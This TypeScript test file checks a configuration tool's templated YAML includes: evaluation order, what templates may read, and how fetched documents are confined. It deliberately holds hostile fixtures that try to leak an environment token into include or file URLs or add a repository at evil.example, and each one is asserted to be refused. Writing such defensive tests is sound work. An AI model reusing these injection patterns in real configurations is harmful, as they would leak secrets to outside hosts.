// Includes of documents whose text is a template: what they read, in which order they count, and what such a document may do
// with values that it should not have, local or fetched.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { dataOf } from '../../../config/document/node.ts'
import { hideSecrets } from '../../../config/render/without-secrets.ts'
import { expectCodeAsync } from '../../support/assertions/expect-code.ts'
import { openWholeConfig, readFiles } from '../../support/machine/config-files.ts'

type Context = Parameters<typeof readFiles>[0]
type Files = Readonly<Record<string, string>>
type More = { readonly web?: Files; readonly env?: Files; readonly ask?: (name: string) => string }

const WEB = 'https://x.example/t.yaml?template=true'

async function dataFor(t: Context, files: Files, { web = {}, env = {}, ask }: More = {}): Promise<unknown> {
  const { effective } = await openWholeConfig(t, files, {
    env,
    fetchText: async (url) => web[url] ?? assert.fail(url),
    ...(ask ? { ask: async ({ variable }) => ask(variable) } : {}),
  })
  const { root } = effective()
  return root && dataOf(root)
}

const refusal = (t: Context, files: Files, more: More = {}) =>
  expectCodeAsync('CONFIG_INVALID', () => dataFor(t, files, more))

const RANGE = '{{range $n, $p := .configs.ports}}{{$n}}: {image: "acme/{{$n}}", expose: [{{$p}}]}\n  {{end}}'
const LOOPED = `services:\n  ${RANGE}\n`
const ports = 'configs: {ports: {api: 80, web: 81}}\n'
const looped = { api: { image: 'acme/api', expose: [80] }, web: { image: 'acme/web', expose: [81] } }

test('a template is read once all other documents are, and counts where it is included', async (t) => {
  const data = await dataFor(t, {
    'octo.yaml': 'include: [{url: t.yaml, template: true}, z.yaml]\n',
    't.yaml': `include: [inner.yaml]\nx-l: [t]\nx-v: {a: t, b: t}\n{{if true}}${LOOPED}{{end}}`,
    'inner.yaml': 'x-l: [inner]\nx-v: {b: inner, c: inner, d: inner}\n',
    'z.yaml': `x-l: [z]\nx-v: {a: z, b: z, c: z, d: z, e: z}\n${ports}`,
  })
  const expected = {
    services: looped,
    'x-l': ['z', 'inner', 't'],
    'x-v': { a: 't', b: 't', c: 'inner', d: 'inner', e: 'z' },
  }
  const { services, 'x-l': l, 'x-v': v } = data as Record<string, unknown>
  assert.deepEqual({ services, 'x-l': l, 'x-v': v }, expected)
})

test('one that is YAML as it stands is filled in value by value, with what it says itself', async (t) => {
  const files = {
    'octo.yaml': 'name: shop\ninclude: ["t.yaml?template=true"]\n',
    't.yaml': `${ports}services: {api: {labels: {port: "{{.configs.ports.api}}", name: "{{.name}}"}}}\n`,
  }
  const { services } = (await dataFor(t, files)) as { services: unknown }
  assert.deepEqual(services, { api: { labels: { port: 80, name: 'shop' } } })
})

test('a key with a template is one only where the document asks for templates', async (t) => {
  const theirs = 'services: {"{{.name}}": {image: a}}\n'
  for (const [url, key] of [
    ['t.yaml', '{{.name}}'],
    ['t.yaml?template=true', 'shop'],
  ] as const) {
    const data = await dataFor(t, { 'octo.yaml': `name: shop\ninclude: ["${url}"]\n`, 't.yaml': theirs })
    assert.deepEqual(Object.keys((data as { services: object }).services), [key])
  }
})

test('templates do not read each other, nor themselves', async (t) => {
  const include = 'include: [{url: a.yaml, template: true}, {url: b.yaml, template: true}]\n'
  const files = { 'octo.yaml': include, 'a.yaml': 'configs: {a: {{len "x"}}}\n', 'b.yaml': 'x-b: {{.configs.a}}\n' }
  assert.match((await refusal(t, files)).message, /b\.yaml` line 1: .*names `configs`/)
  const alone = {
    'octo.yaml': 'include: [{url: a.yaml, template: true}]\n',
    'a.yaml': 'configs: {a: 1}\nx: {{.configs.a}}\n',
  }
  assert.match((await refusal(t, alone)).message, /names `configs`/)
})

test('values that services share and paths of files are there for templates', async (t) => {
  const data = await dataFor(t, {
    'octo.yaml':
      'globals: {g: {log: info}}\nservices: {web: {octocompose: {config: {globals: g}}}}\nrepos: {files: {f: {url: ./f.txt}}}\ninclude: [{url: t.yaml, template: true}]\n',
    'f.txt': 'x',
    't.yaml': 'x-log: {{.configs.web.log}}\nx-path: {{.repos.files.f.path}}\n',
  })
  const { 'x-log': log, 'x-path': path } = data as Record<string, string>
  assert.equal(log, 'info')
  assert.match(path ?? '', /^\/.*\/f\.txt$/)
})

test('answers of prompts are there for templates, and are asked for once', async (t) => {
  const asked: string[] = []
  const data = await dataFor(
    t,
    {
      'octo.yaml': 'octoctl: {prompts: [{name: P, var: P}]}\ninclude: [{url: t.yaml, template: true}]\n',
      't.yaml': 'x-p: {{.env.P}}\nservices: {w: {environment: {P: {{.env.P}}}}}\n',
    },
    {
      ask: (variable) => {
        asked.push(variable)
        return 'answer'
      },
    },
  )
  assert.equal((data as Record<string, unknown>)['x-p'], 'answer')
  assert.deepEqual(asked, ['P'])
})

const THEIRS = 'configs: {theirs: {on: true, host: evil.example, list: [a], n: 2}}\n'
const DECIDING: readonly string[] = [
  'x-a: {{.configs.theirs.host}}\n',
  '{{if .configs.theirs.on}}x-a: 1{{end}}\n',
  '{{if .configs.theirs}}x-a: 1{{end}}\n',
  '{{with .configs.theirs}}x-a: 1{{end}}\n',
  '{{range .configs.theirs.list}}x-a: 1{{end}}\n',
  '{{range .configs.theirs.n}}x-a: 1{{end}}\n',
  '{{range $k, $v := .configs}}x-{{$k}}: 1\n{{end}}',
  '{{$x := .configs.theirs.host}}x-a: {{len "x"}}\n',
  'x-a: {{toYaml .configs}}\n',
  'x-a: {{eq .configs.theirs.host "x"}}\n',
  '{{define "d"}}{{.host}}{{end}}x-a: {{template "d" .configs.theirs}}\n',
  '{{define "d"}}{{.configs.theirs.host}}{{end}}x-a: {{include "d" .}}\n',
  '{{if true}}operator: {repos: {core: {url: "https://{{.configs.theirs.host}}/r.yaml", trust: unsigned}}}{{end}}\n',
]
for (const template of DECIDING)
  test(`no fetched value goes into a local template or decides it: ${JSON.stringify(template)}`, async (t) => {
    const files = {
      'octo.yaml': 'include: [{url: t.yaml, template: true}, "https://x.example/b.yaml"]\nconfigs: {ours: 1}\n',
      't.yaml': template,
    }
    const error = await refusal(t, files, { web: { 'https://x.example/b.yaml': THEIRS } })
    assert.match(
      error.message,
      /b\.yaml` line 1: a document from elsewhere may not decide what a template writes in .*t\.yaml` line 1/,
    )
  })

test('a fetched template has the rights of its address: it decides nothing, reads what is offered, and no variables', async (t) => {
  const rows: readonly (readonly [theirs: string, problem: RegExp])[] = [
    [
      '{{if true}}operator: {repos: {evil: {url: "https://evil.example/r.yaml"}}}{{end}}\n',
      /may not write `operator\.repos/,
    ],
    ['x-a: {{.env.SECRET}}\n', /t\.yaml.* line 1: .*may not read the environment variable `SECRET`/],
    ['x-a: 1\nx-b: {{.configs.ours.token}}\n', /t\.yaml.* line 2: .*may not read `configs\.ours/],
    ['x-a: 1\n{{range .configs.ours}}{{end}}\n', /t\.yaml.* line 2: .*may not read `configs\.ours/],
    [
      '{{if .configs.open}}include: ["https://evil.example/a.yaml"]{{end}}\n',
      /may not include others while its text depends/,
    ],
    [
      'include: ["https://evil.example/{{.configs.open}}.yaml"]\n',
      /may not include others|address of an include holds no templates/,
    ],
    ['{{range split "" .configs.open}}{{end}}include: ["https://evil.example/a.yaml"]\n', /may not include others/],
    ['{{/* nothing */}}\n', /a document from elsewhere holds nothing/],
  ]
  for (const [theirs, problem] of rows) {
    const octo = `include: [{url: "${WEB}", offers: [configs.open]}]\nconfigs: {ours: {token: t}, open: abc}\n`
    const error = await refusal(t, { 'octo.yaml': octo }, { web: { [WEB]: theirs }, env: { SECRET: 'hunter2' } })
    assert.match(error.message, problem, theirs)
    assert.ok(!error.message.includes('hunter2'))
  }
  const octo = `include: [{url: "${WEB}", offers: [configs.ports]}]\n${ports}`
  const { services } = await readFiles(t, { 'octo.yaml': octo }, { fetchText: async () => LOOPED })
  assert.deepEqual(
    services.map(({ name }) => name),
    ['api', 'web'],
  )
})

test('a fetched template that looks at nothing local includes what it likes', async (t) => {
  const web = { [WEB]: '{{if true}}include: [inner.yaml]{{end}}\n', 'https://x.example/inner.yaml': 'x-inner: 1\n' }
  const data = await dataFor(t, { 'octo.yaml': `include: ["${WEB}"]\n` }, { web })
  assert.equal((data as Record<string, unknown>)['x-inner'], 1)
})

test('a trusted fetched template takes nothing from one that nobody trusts', async (t) => {
  const octo = `include: [{url: "${WEB}", trust: unsigned}, "https://x.example/b.yaml"]\n`
  const web = {
    [WEB]: 'services: {w: {image: "{{.configs.theirs.host}}"}}\n{{if true}}x-a: 1{{end}}\n',
    'https://x.example/b.yaml': THEIRS,
  }
  assert.match((await refusal(t, { 'octo.yaml': octo }, { web })).message, /may not decide what a template writes/)
})

for (const [mine, theirs] of [
  ['', ''],
  ['', ', trust: unsigned'],
  [', trust: unsigned', ', trust: unsigned'],
])
  test(`a fetched template with \`{url${mine}}\` takes values of a document with \`{url${theirs}}\``, async (t) => {
    const octo = `include: [{url: "${WEB}"${mine}}, {url: "https://x.example/b.yaml"${theirs}}]\n`
    const web = { [WEB]: '{{if true}}x-host: {{.configs.theirs.host}}{{end}}\n', 'https://x.example/b.yaml': THEIRS }
    const data = await dataFor(t, { 'octo.yaml': octo }, { web })
    assert.equal((data as Record<string, unknown>)['x-host'], 'evil.example')
  })

test('a variable that a template prints is as secret as it is, and stays out of addresses and keys', async (t) => {
  const env = { TOKEN: 'hunter2', STAGE: 'prod' }
  const octo = 'include: [{url: t.yaml, template: true}]\n'
  const shown = async (text: string, files: Files = {}) => {
    const { effective } = await openWholeConfig(t, { 'octo.yaml': octo, 't.yaml': text, ...files }, { env })
    const tree = effective()
    return tree.root && dataOf(hideSecrets(tree.root, tree).root)
  }
  const { include: _, ...printed } = (await shown(
    'x-a: {{.env.TOKEN}}\nx-b: "v {{.env.TOKEN | upper}}"\nx-c: {{.env.TOKEN | quote | indent 1}}\nx-d: 1\n{{define "d"}}{{.env.TOKEN}}{{end}}x-e: {{include "d" . | upper}}\n',
  )) as Record<string, unknown>
  assert.deepEqual(printed, { 'x-a': '***', 'x-b': '***', 'x-c': '***', 'x-d': 1, 'x-e': '***' })
  for (const text of [
    '{{if .env.STAGE}}x-a: 1{{end}}\n',
    '{{$s := .env.STAGE}}x-a: {{len $s}}\n',
    '{{with .env.STAGE}}x-a: {{.}}{{end}}\n',
    '{{define "d"}}x-a: 1{{end}}{{template "d" .env.STAGE}}\n',
    '{{define "d"}}{{if .env.STAGE}}1{{end}}{{end}}x-a: {{include "d" .}}\n',
  ])
    assert.equal(((await shown(text)) as Record<string, unknown>)['x-a'], '***', text)
  for (const [text, problem] of [
    ['{{.env.TOKEN}}: 1\n', /an environment variable, here `TOKEN`, is no key/],
    [
      'operator: {repos: {c: {url: "https://x.example/{{.env.TOKEN}}/c.yaml", trust: unsigned}}}\n',
      /may not hold the environment variable `TOKEN`/,
    ],
    [
      '{{if .env.TOKEN}}operator: {repos: {c: {url: "https://x.example/c.yaml", trust: unsigned}}}{{end}}\n',
      /may not hold the environment variable `TOKEN`/,
    ],
    ['include: ["https://x.example/{{.env.TOKEN}}.yaml"]\n', /the address of an include holds no templates/],
    ['{{if .env.TOKEN}}include: ["https://x.example/a.yaml"]{{end}}\n', /the address of an include holds no templates/],
    ['repos: {files: {f: {url: "https://x.example/{{.env.TOKEN}}"}}}\n', /the address of a file holds no templates/],
  ] as const) {
    const error = await refusal(t, { 'octo.yaml': octo, 't.yaml': text }, { env })
    assert.match(error.message, problem, text)
    assert.ok(!`${error.message} ${error.hint}`.includes('hunter2'))
  }
})

test('a fetched document does not read a variable by way of a local template that printed it', async (t) => {
  const files = {
    'octo.yaml': 'include: [{url: t.yaml, template: true}, "https://x.example/b.yaml"]\n',
    't.yaml': 'configs: {a: {{.env.TOKEN}}}\n',
  }
  const theirs = 'services: {w: {health: [{tool: c, args: {x: "{{.configs.a}}"}}]}}\n'
  const error = await refusal(t, files, { web: { 'https://x.example/b.yaml': theirs }, env: { TOKEN: 'hunter2' } })
  assert.match(error.message, /may not read the environment variable `TOKEN`/)
})

test('what a template made is not filled in again, whatever its values hold', async (t) => {
  const data = await dataFor(
    t,
    {
      'octo.yaml': 'include: [{url: t.yaml, template: true}]\nconfigs: {braces: "{{`{{.env.TOKEN}}`}}"}\n',
      't.yaml':
        'services:\n  w:\n    command: ["{{.configs.braces}}", {{.configs.braces}}]\n    labels: {a: "{{"{{.x}}"}}"}\n',
    },
    { env: { TOKEN: 'hunter2' } },
  )
  assert.deepEqual((data as { services: unknown }).services, {
    w: { command: ['{{.env.TOKEN}}', '{{.env.TOKEN}}'], labels: { a: '{{.x}}' } },
  })
})

test('values make no address of an include or a file, also not those of a local document', async (t) => {
  for (const [text, problem] of [
    [
      '{{if true}}include: ["{{.name}}.yaml"]{{end}}\n',
      /t\.yaml` line 1: the address of an include holds no templates/,
    ],
    [
      '{{if true}}repos: {files: {f: {url: "./{{.name}}"}}}{{end}}\n',
      /t\.yaml` line 1: the address of a file holds no templates/,
    ],
  ] as const) {
    const files = {
      'octo.yaml': 'name: shop\ninclude: [{url: t.yaml, template: true}]\n',
      't.yaml': text,
      'shop.yaml': 'x: 1\n',
    }
    assert.match((await refusal(t, files)).message, problem)
  }
})

test('TOML is no template, and says so by its own error', async (t) => {
  const files = {
    'octo.yaml': 'include: [{url: t.toml, template: true}]\n',
    't.toml': '{{range .configs}}\na = 1\n{{end}}\n',
  }
  const error = await expectCodeAsync('TOML_INVALID', () => dataFor(t, files))
  assert.match(error.message, /t\.toml` line 1/)
})
